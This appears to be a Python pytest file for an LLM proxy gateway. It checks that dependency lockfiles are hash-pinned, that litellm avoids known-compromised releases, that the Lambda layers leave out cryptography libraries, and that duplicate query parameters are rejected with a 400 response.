        if not line[0].isspace():
            assert re.fullmatch(r"[A-Za-z0-9._\-\[\],]+==[A-Za-z0-9.+!\-]+ \\", line), line
            current = line.split(" ")[0]
            entries[current] = []
        else:
            entries[current].append(stripped)
    assert entries
    unhashed = [
        name
        for name, rest in entries.items()
        if not any(re.match(r"--hash=sha256:[0-9a-f]{64}", item) for item in rest)
    ]
    assert unhashed == []
    for name in entries:
        if name.split("==")[0].lower() == "litellm":
            assert name.split("==")[1] not in COMPROMISED_LITELLM


def test_litellm_is_pinned_exactly_to_a_release_that_was_not_compromised() -> None:
    for lock in ("layers/deps/requirements.txt", "requirements-dev.txt"):
        pinned = locked_version(REPO / lock, "litellm")
        assert re.fullmatch(r"\d+\.\d+\.\d+", pinned)
        assert pinned not in COMPROMISED_LITELLM
    assert version("litellm") not in COMPROMISED_LITELLM
    assert re.search(r'"litellm==\d+\.\d+\.\d+"', (REPO / "pyproject.toml").read_text())


@pytest.mark.parametrize("lock", ["layers/deps/requirements.txt", "layers/ops/requirements.txt"])
def test_the_lambda_layers_lock_no_cryptography(lock: str) -> None:
    """JWTs are verified with the standard library (access.rsa_signatures): `cryptography` and
    its bundled OpenSSL would take the function past its size budget."""
    pinned = re.findall(r"^([A-Za-z0-9._\-]+)(?:\[[^\]]*\])?==", (REPO / lock).read_text(), re.M)
    names = {name.lower().replace("_", "-") for name in pinned}
    assert names and not names & {"cryptography", "cffi", "pycparser", "pyjwt"}


def test_the_gateway_imports_neither_pyjwt_nor_cryptography() -> None:
    for path in (REPO / "layers" / "core" / "llm_proxy").rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Import):
                roots = {alias.name.split(".")[0] for alias in node.names}
            elif isinstance(node, ast.ImportFrom) and node.level == 0 and node.module:
                roots = {node.module.split(".")[0]}
            else:
                continue
            assert not roots & {"jwt", "cryptography"}, path


def test_every_install_checks_the_hashes() -> None:
    # make test and .ci/run install through scripts/bootstrap.sh.
    assert "scripts/bootstrap.sh" in (REPO / "Makefile").read_text()
    assert "make test" in (REPO / ".ci" / "run").read_text()
    bootstrap = (REPO / "scripts" / "bootstrap.sh").read_text()
    installs = [line for line in bootstrap.splitlines() if " -r " in line]
    assert installs and all("--require-hashes" in line for line in installs)
    build = (REPO / "scripts" / "build_layer.py").read_text()
    assert build.count('"--require-hashes"') == 2  # uv's and pip's command alike


def test_a_query_parameter_given_twice_is_refused_after_the_key(url: str) -> None:
    """The last of several values would silently win; a caller gets a 400 naming it, and one
    without a key its 401 first."""
    twice = "/v1/model/info?litellm_model_id=a&litellm_model_id=b"
    answer = call(url, "GET", twice)
    assert answer.status_code == 400 and answer.json()["error"]["param"] == "litellm_model_id"
    assert call(url, "GET", twice, key=None).status_code == 401
    assert call(url, "GET", "/v1/model/info?litellm_model_id=a").status_code == 200
